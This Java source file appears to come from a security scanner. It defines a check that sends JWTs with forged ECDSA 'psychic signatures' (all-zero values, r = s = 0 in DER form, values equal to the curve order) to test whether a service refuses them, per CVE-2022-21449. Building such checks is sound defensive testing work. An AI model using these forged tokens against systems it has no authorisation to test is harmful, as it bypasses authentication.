package dev.postern.checks.jwt;

import com.google.auto.service.AutoService;
import dev.postern.api.check.Attempt;
import dev.postern.api.check.Check;
import dev.postern.api.check.DenialCheck;
import dev.postern.api.check.SecurityCheck;
import dev.postern.api.check.Severity;
import dev.postern.api.check.Subject;
import dev.postern.api.target.Scheme;
import dev.postern.checks.craft.ValidToken;
import java.math.BigInteger;
import java.security.interfaces.ECPublicKey;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/** ECDSA signatures whose numbers are out of range, which satisfy the equation for every message and key. */
@AutoService(SecurityCheck.class)
@Check(
        id = "jwt.psychic-signature",
        title = "ECDSA signatures of zeros are refused",
        severity = Severity.CRITICAL,
        references = {"RFC 7518 3.4", "RFC 8725 3.4", "CVE-2022-21449"},
        cwe = 347,
        schemes = Scheme.Type.BEARER_JWT,
        per = Check.Per.SCHEME,
        explainedBy = "jwt.signature-tampered",
        requests = 6)
public final class PsychicSignature implements DenialCheck {

    private static final List<String> ALGS = List.of("ES256", "ES384", "ES512");

    @Override
    public Stream<Attempt> attempts(Subject on) {
        var valid = ValidToken.of(on);
        var own = valid.view().alg().filter(ALGS::contains);
        var zeros = ALGS.stream().map(alg -> attempt(valid, alg, new byte[2 * size(alg)], "r = s = 0"));
        var alg = own.orElse("ES256");
        var others = Stream.of(
                // the same as ASN.1, which Java's own Signature expects
                attempt(valid, alg, new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0}, "r = s = 0 in DER"),
                attempt(valid, alg, concat(order(alg), order(alg)), "r = s = the order of the curve"),
                attempt(valid, alg, concat(order(alg), one(alg)), "r = the order of the curve, s = 1"));
        return Stream.concat(zeros, others);
    }

    private static Attempt attempt(ValidToken valid, String alg, byte[] signature, String words) {
        return valid.on()
                .attempt(
                        alg + ", " + words,
                        valid.draft().header("alg", alg).signature(signature).text());
    }

    private static byte[] order(String alg) {
        return ofSize(
                ((ECPublicKey) ForeignKeys.of(alg).publicKey().orElseThrow())
                        .getParams()
                        .getOrder(),
                size(alg));
    }

    private static byte[] one(String alg) {
        return ofSize(BigInteger.ONE, size(alg));
    }

    /** RFC 7518 3.4: 32, 48 or 66 bytes each. */
    private static int size(String alg) {
        return switch (alg) {
            case "ES256" -> 32;
            case "ES384" -> 48;
            default -> 66;
        };
    }

    private static byte[] ofSize(BigInteger number, int size) {
        var signed = number.toByteArray();
        var bytes = new byte[size];
        int count = Math.min(signed.length, size);
        System.arraycopy(signed, signed.length - count, bytes, size - count, count);
        return bytes;
    }

    private static byte[] concat(byte[] r, byte[] s) {
        var both = Arrays.copyOf(r, r.length + s.length);
        System.arraycopy(s, 0, both, r.length, s.length);
        return both;
    }
}
